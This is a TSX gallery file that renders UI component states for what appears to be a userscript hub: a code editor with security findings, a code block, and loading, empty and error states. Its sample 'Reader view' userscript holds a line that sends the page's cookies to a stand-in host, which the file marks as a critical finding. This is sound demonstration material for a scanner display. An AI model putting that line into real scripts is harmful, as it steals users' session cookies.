import { Copy } from "lucide-react";
import { Button, buttonClass } from "../src/button.tsx";
import { CodeBlock } from "../src/code-block.tsx";
import { CodeEditor } from "../src/code-editor/code-editor.tsx";
import type { EditorFinding } from "../src/code-findings/editor-finding.ts";
import { EmptyState } from "../src/empty-state.tsx";
import { ErrorState } from "../src/error-state.tsx";
import { IconButton } from "../src/icon-button.tsx";
import { LoadingRegion, Skeleton } from "../src/skeleton.tsx";
import styles from "./gallery.module.css";
import { Section } from "./section.tsx";

const code = `// ==UserScript==
// @name   Reader view
// @match  https://*/*
// ==/UserScript==
const article = document.querySelector("article, main, [role=main]") ?? document.body;
fetch("https://collector.example/" + encodeURIComponent(document.cookie));
document.body.replaceChildren(article);`;

const findings: EditorFinding[] = [
	{ line: 6, severity: "critical", label: "Line 6: Critical: The page's cookies are sent elsewhere." },
	{ line: 3, severity: "low", label: "Line 3: Low: Runs on every site." },
];
const pointedAt = { line: 6, focus: false };

export function States() {
	return (
		<>
			<Section title="Code with findings">
				<div className={styles.wide}>
					<CodeEditor
						code={code}
						label="Code of Reader view, with findings"
						findings={findings}
						pointedAt={pointedAt}
					/>
				</div>
			</Section>
			<Section title="Code">
				<div className={styles.wide}>
					<CodeBlock
						code={code}
						label="Code of Reader view"
						markedLines={new Set([6])}
						actions={<IconButton label="Copy code" icon={<Copy aria-hidden="true" />} />}
					/>
				</div>
			</Section>
			<Section title="Loading, empty, error">
				<LoadingRegion text="Loading scripts…" className={styles.wide ?? ""}>
					<div className={styles.grid}>
						{[1, 2, 3].map((card) => (
							<div key={card}>
								<Skeleton shape="block" height="10rem" />
								<Skeleton width="60%" />
								<Skeleton lines={3} />
								<Skeleton shape="circle" />
							</div>
						))}
					</div>
				</LoadingRegion>
				<EmptyState
					className={styles.wide ?? ""}
					title="No scripts match these filters"
					action={<Button variant="primary">Clear filters</Button>}
				>
					Try fewer words, or look through a category.
				</EmptyState>
				<ErrorState
					className={styles.wide ?? ""}
					title="Failed to load scripts"
					detail="The hub did not answer. Your filters are kept."
					actions={
						<>
							<Button>Try again</Button>
							<a href="#reload" className={buttonClass({ variant: "quiet" })}>
								Reload page
							</a>
						</>
					}
				/>
			</Section>
		</>
	);
}
